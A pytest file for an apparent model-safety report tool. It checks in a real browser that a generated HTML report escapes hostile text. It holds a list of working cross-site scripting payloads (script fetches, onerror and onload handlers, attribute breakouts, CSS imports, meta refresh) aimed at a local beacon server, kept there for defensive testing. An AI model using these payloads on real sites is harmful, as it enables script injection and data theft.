"""The page of a report in a real browser: hostile outputs run nothing and fetch nothing, all works by hand.

Chromium is installed by the set-up where apt is there and may be used; elsewhere these tests are skipped.
"""

import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from safer_instruct.experts.verdicts import Judgement
from safer_instruct.measures.comparisons import compare_models
from safer_instruct.measures.rates import JudgedOutput, summarize
from safer_instruct.report.curves import RunCurves, plot_compared, plot_runs
from safer_instruct.report.document import build_report
from safer_instruct.report.evaluations import sample_row
from safer_instruct.report.page import pick_samples, render_page
from safer_instruct.report.sweeps import plot_sweep
from safer_instruct.report.training_runs import TrainingRun
from safer_instruct.text.prompt_sets import EvaluationPrompt
from tests.browser import Browser, find_chromium, screenshot_folder

WIDTHS = (400, 1400)
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    browser = Browser(find_chromium(), tmp_path_factory.mktemp("chromium"))
    yield browser
    browser.close()


@pytest.fixture
def beacon():
    """A server that hostile text points to: (its address, the paths that were asked for)."""
    asked = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"document.title = 'taken over'")

        def log_message(self, *_): ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def payloads(url):
    return [
        f"<script>fetch('{url}/fetch'); document.title = 'taken over'</script>",
        f"</script></style></textarea></title><script src='{url}/script.js'></script>",
        f"<img src='{url}/img.png' onerror=\"document.title='taken over'\">",
        f'" onmouseover="fetch(\'{url}/over\')" style="background:url({url}/css.png)" x="',
        f"<link rel=stylesheet href={url}/style.css><meta http-equiv=refresh content='0;url={url}/refresh'>",
        f"<svg/onload=fetch('{url}/svg')><iframe src={url}/frame></iframe>",
        f"{{{{ 7 * 7 }}}} {{% raw %}} <style>@import '{url}/import.css'; body {{ display: none }}</style>",
        "\u202egnitrever\u202c \u2066x\u2069 \u200b \x00 \x1b[31m \u2028 \ud800",
        f"javascript:fetch('{url}/js')",
        "x" * 1_000_000,
        "word " * 5_000,
    ]


def hostile_page(url):
    """A report in which every text of others is hostile: names, sources, labels, ids, prompts, answers, figures."""
    texts = payloads(url)
    models = {}
    for name in ("base", texts[0], texts[3][:80], "a_model_with_quite_a_long_name_of_its_own-beta=0.05"):
        models[name] = [
            JudgedOutput(
                EvaluationPrompt(
                    text[:200] + str(i), text, f"set {i % 2} {texts[i % 4]}", text[:300], text[:300], "unsafe"
                ),
                texts[-1 - (i + len(models)) % len(texts)],
                i % 2 == 0,
                Judgement(("harmful", "refusal", "safe", "abstain")[(i + len(models)) % 4], text[:50], specific=True),
            )
            for i, text in enumerate(texts)
        ]
    summaries = {name: {"path": name, "fingerprint": "f", **summarize(rows)} for name, rows in models.items()}
    run = {
        "command": texts[0], "stages": [{"name": texts[2], "command": texts[1], "seconds": 1.0}], "seed": 0,
        "judge": {"name": texts[0], "fingerprint": "j"}, "generation": {"temperature": 0.0},
        "git": {"sha": None, "dirty": None}, "versions": {"python": texts[5]},
    }  # fmt: skip
    prompts = {texts[2]: {"path": texts[1], "n": len(texts), "kinds": {"unsafe": len(texts)}, "fingerprint": "p"}}
    dataset = {"funnel": [{"stage": text, "in": 9, "out": 5, "drops": {text: 4}} for text in texts]}
    parts = {
        "comparisons": compare_models(models, summaries),
        "agreement": {
            "judges": texts[:2], "n": 2, "agreed": 1, "kappa": None,
            "table": {"harmful": {"harmful": 1, "safe": 1}, "safe": {"harmful": 0, "safe": 0}},
            "disagreements": [{"model": t, "set": t, "id": t, "first": t, "second": t} for t in texts[:9]],
        },
    }  # fmt: skip
    report = build_report(
        models=summaries, prompts=prompts, overlaps=[], dataset=dataset, run=run, parts=parts, notes=texts[:5]
    )
    rows = (sample_row(name, output) for name, outputs in models.items() for output in outputs)
    curve = RunCurves({"loss/train": [(0.0, 2.0), (64.0, 1.0)]})
    figures = plot_compared(dict.fromkeys([*models, *texts[:6]], curve)) + plot_sweep(
        [swept(text, i, **{text: i, "words": text}) for i, text in enumerate(texts, start=1)],
        ["words", *texts, "loss.beta"],
        {},
    )
    return render_page(report, pick_samples(rows, 20), figures)


def swept(name, number, **settings):
    """A run of a sweep of beta."""
    metrics = {"rewards_eval/chosen": 0.5, "rewards_eval/rejected": -3.0, "rewards_eval/accuracies": 1 - 0.09 * number}
    return TrainingRun(name, name[:99], {"loss.name": "dpo", "loss.beta": 0.1 * number, **settings}, metrics, 64)


def opened(html):
    """The page with all that is behind a click shown."""
    return html.replace("<details", "<details open")


@pytest.mark.slow
def test_a_hostile_page_runs_nothing_and_asks_for_nothing(browser, beacon, tmp_path):
    url, asked = beacon
    html = opened(hostile_page(url))
    page, naked, control = tmp_path / "page.html", tmp_path / "naked.html", tmp_path / "control.html"
    page.write_text(html, encoding="utf-8")
    assert POLICY.search(html)
    naked.write_text(POLICY.sub("", html), encoding="utf-8")  # the escaping alone must hold
    control.write_text("<title>fine</title>" + "".join(payloads(url)[:3]), encoding="utf-8")
    for file in (page, naked):
        browser.open(file)
        # Our own script gets hold of every text: two models side by side, all prompts that hold a word.
        browser.run(
            """(() => { const models = [...document.querySelector("[name=left]").options].map(one => one.value);
            for (const [name, value] of [["left", models[1]], ["right", models[2]], ["words", "fetch"]])
              document.querySelector(`[name=${name}]`).value = value;
            document.getElementById("sample-tools").dispatchEvent(new Event("input")) })()"""
        )
        assert browser.run("document.querySelectorAll('mark').length") > 0
        assert browser.run("document.title").startswith("Evaluation: base, ")
        assert browser.run("document.scripts.length") == 1
        browser.run("new Promise(done => setTimeout(done, 200))")
    assert asked == []
    browser.open(control)
    browser.run("new Promise(done => setTimeout(done, 200))")
    assert "taken over" in browser.run("document.title")  # the same texts unescaped: this browser would have run them
    assert len(asked) >= 2


@pytest.mark.slow
def test_the_layout_holds_on_a_phone_and_on_a_screen(browser, beacon, tmp_path):
    page = tmp_path / "page.html"
    page.write_text(opened(hostile_page(beacon[0])), encoding="utf-8")
    for width in WIDTHS:
        browser.resize(width)
        browser.open(page)
        found = browser.run(
            """[document.documentElement.scrollWidth, [...document.querySelectorAll("body *")].filter(e =>
            !e.closest(".scroll") && e.checkVisibility() && e.getBoundingClientRect().right > innerWidth + 1)
            .map(e => e.tagName + "." + e.className).slice(0, 5)]"""
        )
        assert found == [width, []]


def plain_page(folder):
    """A report of three models with every kind of section, of harmless texts."""
    outcomes = {
        "base": ["harmful"] * 30 + ["safe"] * 6,
        "sft": ["refusal"] * 24 + ["harmful"] * 12,
        "dpo": ["refusal"] * 36,
    }
    answers = {
        "harmful": "Take the key and open the door.",
        "refusal": "I will not open it.",
        "safe": "Doors are nice.",
    }
    prompts = [
        EvaluationPrompt(
            f"p{i}", f"how to open door {i}", "doors", f"source {i % 2}", ("theft", "lies", "dares")[i % 3], "unsafe"
        )
        for i in range(36)
    ]
    judged = {
        name: [
            JudgedOutput(prompt, answers[outcome], False, Judgement(outcome, specific=outcome == "refusal"))
            for prompt, outcome in zip(prompts, of_model, strict=True)
        ]
        for name, of_model in outcomes.items()
    }
    models = {name: {"path": name, "fingerprint": "f", **summarize(rows)} for name, rows in judged.items()}
    run = {
        "command": "python evaluate.py", "date": "2026-01-02 03:04 UTC", "seed": 0, "git": {"sha": None, "dirty": None},
        "stages": [{"name": "sft", "command": "python train.py", "seconds": 1.0}],
        "judge": {"name": "rules", "fingerprint": "j"}, "generation": {"temperature": 0.0}, "versions": {"python": "3"},
    }  # fmt: skip
    sets = {"doors": {"path": "p", "n": 36, "kinds": {"unsafe": 36}, "fingerprint": "p"}}
    dataset = {"funnel": [{"stage": "corpus", "in": 9, "out": 5, "drops": {"empty": 4}}]}
    parts = {"comparisons": compare_models(judged, models)}
    report = build_report(models=models, prompts=sets, overlaps=[], dataset=dataset, run=run, parts=parts)
    rows = (sample_row(name, output) for name, outputs in judged.items() for output in outputs)
    points = [(16.0, 0.7), (32.0, 0.4), (48.0, 0.3)]
    curves = plot_runs({"dpo": RunCurves({"preference_loss_train": points, "preference_loss_eval": points[2:]}, "dpo")})
    curves += plot_sweep([swept(f"beta={n}", n, lr=10.0**-n) for n in (1, 2, 5)], ["loss.beta", "lr"], {})
    page = folder / "report.html"
    page.write_text(render_page(report, pick_samples(rows, 36), curves), encoding="utf-8")
    return page


@pytest.mark.slow
def test_axe_finds_no_serious_fault_at_any_width_in_dark_and_in_light(browser, tmp_path):
    page = plain_page(tmp_path)
    shots = screenshot_folder(tmp_path)
    for width, dark in ((1280, False), (400, True)):
        browser.media(dark=dark)
        browser.resize(width)
        browser.open(page)
        browser.screenshot(shots / f"report-{width}-{'dark' if dark else 'light'}.png")
        browser.run("document.querySelectorAll('details').forEach(one => one.open = true)")
        assert browser.faults() == []
    browser.media()
    browser.open(page)
    browser.pdf(shots / "report.pdf")
    pages = re.findall(rb"/Type\s*/Page[^s]", (shots / "report.pdf").read_bytes())
    assert 1 <= len(pages) <= 3  # what is behind a click is printed only where it was opened


@pytest.mark.slow
def test_sorting_filtering_and_comparing_by_keys_and_clicks(browser, tmp_path):
    browser.media()
    browser.resize(1280)
    browser.open(plain_page(tmp_path))

    def texts(selector):
        found = f"[...document.querySelectorAll({json.dumps(selector)})]"
        return browser.run(f"{found}.filter(e => e.checkVisibility()).map(e => e.innerText)")

    def choose(name, value):
        browser.run(
            f"(e => {{ e.value = {json.dumps(value)}; e.dispatchEvent(new Event('input', {{bubbles: true}})) }})"
            f"(document.querySelector('#sample-tools [name={name}]'))"
        )

    assert texts(".card h2") == ["Is it safer?", "How sure are we?"]
    assert texts(".big")[0].startswith("0.0%")
    browser.click("#open-all")
    assert texts("article.sample") == [], "what is behind the content warning stays there"
    column = "document.querySelector('.table table.plain th:nth-child(3)')"
    differences = "[...document.querySelector('.table table.plain').tBodies[0].rows].map(row => row.cells[2].innerText)"
    browser.click(".table table.plain th:nth-child(3) button")
    numbers = [float(text.split()[0]) for text in browser.run(differences)]
    assert numbers == sorted(numbers) != sorted(numbers, reverse=True)
    assert browser.run(f"{column}.ariaSort") == "ascending"
    browser.press("Enter")  # the button has the focus
    assert browser.run(f"{column}.ariaSort") == "descending"
    browser.click(".gate > summary")
    browser.until("document.querySelector('#sample-tools .found').textContent")
    assert len(texts("article.sample")) == 36
    assert texts("#sample-tools .found") == ["36 of 36 prompts"]
    choose("label", "theft")
    assert texts("#sample-tools .found") == ["12 of 36 prompts"]
    choose("source", "source 1")
    assert texts("#sample-tools .found") == ["6 of 36 prompts"]
    choose("label", "")
    choose("source", "")
    browser.click("#sample-tools [name=words]")
    for letter in "door 35":
        browser.press(letter)
    assert texts("#sample-tools .found") == ["1 of 36 prompts"]
    choose("left", "base")
    choose("right", "dpo")
    assert texts(".answer .who b") == ["base", "dpo"]
    assert texts(".answer .text") == ["Doors are nice.", "I will not open it."]
    choose("left", "sft")
    choose("label", "lies")
    choose("words", "door 25")
    assert texts(".answer .text") == ["Take the key and open the door.", "I will not open it."]
    assert [text.strip() for text in texts(".answer mark")] == ["Take the key and", "the door.", "I will not", "it."]
    choose("right", "")
    assert len(texts(".answer .who b")) == 3
    assert texts("mark") == []
